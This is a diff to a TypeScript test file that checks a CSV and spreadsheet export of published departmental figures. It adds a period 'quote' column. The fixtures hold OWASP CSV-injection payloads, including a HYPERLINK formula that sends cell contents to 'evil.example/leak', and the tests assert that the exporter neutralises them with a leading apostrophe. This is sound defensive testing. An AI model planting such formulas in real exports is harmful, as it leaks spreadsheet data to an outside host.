@@ -235,7 +235,8 @@ describe("useExport", () => {
 // The figures sheet: FigureSheet as codegen registers it, over departments whose figures
 // carry what a department user could record and publish: OWASP's CSV injection payloads.
 const HYPERLINK = '=HYPERLINK("http://evil.example/leak?d="&B3,"Source")';
-const period = (kind: string, start: string | null, end: string | null, label: string) => ({ kind, start, end, label });
+// The report's words for a period: its label, as the report words it.
+const period = (kind: string, start: string | null, end: string | null, label: string) => ({ kind, start, end, label, quote: label });
 const figure = (id: string, fields: Partial<Record<string, unknown>> = {}) => ({
   id,
   status: "PUBLISHED",
@@ -278,7 +279,7 @@ const FIGURES: InlineSubgraph = {
     input FigureFilter { objective: Int }
     type Objective @key(fields: "number") { number: Int!  title: String! }
     type Observation { id: ID!  status: String!  objective: Objective  label: String!  value: Float!  unit: String!  qualifier: String!  statedPeriod: FigurePeriod  source: Source! }
-    type FigurePeriod { kind: String!  start: String  end: String  label: String! }
+    type FigurePeriod { kind: String!  start: String  end: String  label: String!  quote: String }
     type Source { reference: String!  quote: String! }
     type ObservationConnection { pageInfo: PageInfo!  edges: [ObservationEdge!]! }
     type PageInfo { hasNextPage: Boolean!  endCursor: String }
@@ -329,19 +330,19 @@ async function figureDownload(path: string, harness = figures) {
 const FIGURE_HEADER = ["department", "objective", "objectiveTitle", "id", "label", "value", "unit", "qualifier", "periodKind", "periodStart", "periodEnd", "periodLabel", "periodQuote", "sourceReference", "sourceQuote"];
 
 describe("the figures sheet", () => {
-  it("gives every published figure across the departments, in the documented columns, a null period as empty cells, every page of a department", async () => {
+  it("gives every published figure across the departments, in the documented columns, a null period as 'no period given' and empty cells, every page of a department", async () => {
     const { response, text } = await figureDownload("/export/figures.csv");
     expect(response.status, text).toBe(200);
     expect(response.headers.get("content-disposition")).toBe('attachment; filename="figures.csv"');
     expect(csvRows(text)).toEqual([
       FIGURE_HEADER,
-      ["plan", "", "", "plan.measures", "Figure plan.measures", "97", "measures", "EXACT", "", "", "", "", "Section plan.measures", "the report on plan.measures"],
-      ["border", "13", "Objective 13", "border.hyperlink", `'${HYPERLINK}`, "500", "people", "MORE_THAN", "SINCE", "2020-11", "", "since November 2020", "Section border.hyperlink", "the report on border.hyperlink"],
+      ["plan", "", "", "plan.measures", "Figure plan.measures", "97", "measures", "EXACT", "", "", "", "no period given", "", "Section plan.measures", "the report on plan.measures"],
+      ["border", "13", "Objective 13", "border.hyperlink", `'${HYPERLINK}`, "500", "people", "MORE_THAN", "SINCE", "2020-11", "", "since November 2020", "since November 2020", "Section border.hyperlink", "the report on border.hyperlink"],
       // Past the first page of two; the draft between is left out.
-      ["border", "", "", "border.balance", "'-5 net change in the year", "-5", "people", "EXACT", "DURING", "2020", "2020", "2020", "Section II", "'+5 in, 10 out"],
-      ["integration", "7", "Objective 7", "integration.at", "Figure integration.at", "1", "'@people", "EXACT", "UP_TO", "", "2021-12", "by the end of 2021", "'\tSection II", "'-1 against the year before"],
-      ["diaspora", "14", "Objective 14", "diaspora.offices", "Figure diaspora.offices", "187.5", "people", "EXACT", "AS_OF", "", "2021-12", "at the end of 2021", "'\r=1+2", "187 GAE protocols"],
-      ["social", "22", "Objective 22", "social.plain", "Figure social.plain", "1", "people", "EXACT", "", "", "", "", "Section social.plain", "the report on social.plain"],
+      ["border", "", "", "border.balance", "'-5 net change in the year", "-5", "people", "EXACT", "DURING", "2020", "2020", "2020", "2020", "Section II", "'+5 in, 10 out"],
+      ["integration", "7", "Objective 7", "integration.at", "Figure integration.at", "1", "'@people", "EXACT", "UP_TO", "", "2021-12", "by the end of 2021", "by the end of 2021", "'\tSection II", "'-1 against the year before"],
+      ["diaspora", "14", "Objective 14", "diaspora.offices", "Figure diaspora.offices", "187.5", "people", "EXACT", "AS_OF", "", "2021-12", "at the end of 2021", "at the end of 2021", "'\r=1+2", "187 GAE protocols"],
+      ["social", "22", "Objective 22", "social.plain", "Figure social.plain", "1", "people", "EXACT", "", "", "", "no period given", "", "Section social.plain", "the report on social.plain"],
     ]);
     // OWASP: a neutralised field is quoted too; a negative number is a number, written as one.
     expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/leak?d=""&B3,""Source"")",500,`);
@@ -367,7 +368,7 @@ describe("the figures sheet", () => {
     expect(rest).toEqual([]);
     expect(sheet!.sheet).toBe("figures");
     expect(sheet!.data[0]).toEqual(FIGURE_HEADER);
-    expect(sheet!.data.slice(1).map((row) => [row[4], row[5], row[6], row[12], row[13]])).toEqual([
+    expect(sheet!.data.slice(1).map((row) => [row[4], row[5], row[6], row[13], row[14]])).toEqual([
       [`'${HYPERLINK}`, 500, "people", "Section border.hyperlink", "the report on border.hyperlink"],
       ["'-5 net change in the year", -5, "people", "Section II", "'+5 in, 10 out"],
       ["Figure integration.at", 1, "'@people", "'\tSection II", "'-1 against the year before"],
